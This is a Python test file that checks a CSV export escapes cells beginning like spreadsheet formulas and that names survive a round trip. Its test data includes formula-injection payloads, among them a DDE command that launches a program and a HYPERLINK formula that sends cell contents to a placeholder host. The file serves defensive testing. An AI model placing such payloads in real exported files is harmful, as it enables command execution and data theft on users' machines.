import csv
import io

import pytest

from people import actions, sheets
from people.models import Person
from people.tests.factories import PersonFactory, SchoolFactory

CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''-1",
]
HARMLESS = ["Ana", "'t Hooft", "O'Neill", "Jean-Luc", "", "1=1", " =1", "5"]


def cells_of(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", CORPUS)
def test_no_cell_begins_like_a_formula(cell):
    _, [written] = cells_of(sheets.write(["name"], [[cell]]))

    assert written == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_words_stay_as_they_are(cell):
    _, [written, _] = cells_of(sheets.write(["name", "number"], [[cell, 7]]))

    assert written == cell


def test_a_nul_does_not_hide_what_comes_after_it():
    assert cells_of(sheets.write(["name"], [["\0=1+1"]]))[1] == ["'=1+1"]


def test_numbers_stay_numbers():
    assert cells_of(sheets.write(["minutes"], [[-5], [None]])) == [["minutes"], ["-5"], [""]]


def test_what_was_written_is_read_again_word_for_word():
    words = [cell for cell in [*CORPUS, *HARMLESS] if cell.strip()]

    rows = sheets.lines_of(sheets.write(["name"], [[cell] for cell in words]).decode()[1:], ",")

    assert [cells for _, cells in rows] == [["name"], *([cell] for cell in words)]


def test_a_file_with_unsafe_names_comes_in_again_with_the_same_names(db, now):
    school = SchoolFactory()
    admin = PersonFactory(administrator=True, school=school)
    names = [("=Ana", "-Silva"), ("@Ben", "+Moe"), ("O'Neill", "'t Hooft")]
    content = sheets.write(
        ["external id", "role", "given name", "family name"],
        [[str(number), "student", *name] for number, name in enumerate(names)],
    )

    actions.apply_roster(school, content, by=admin, at=now)

    taken = Person.objects.exclude(external_id="").order_by("external_id")
    assert list(taken.values_list("given_name", "family_name")) == names
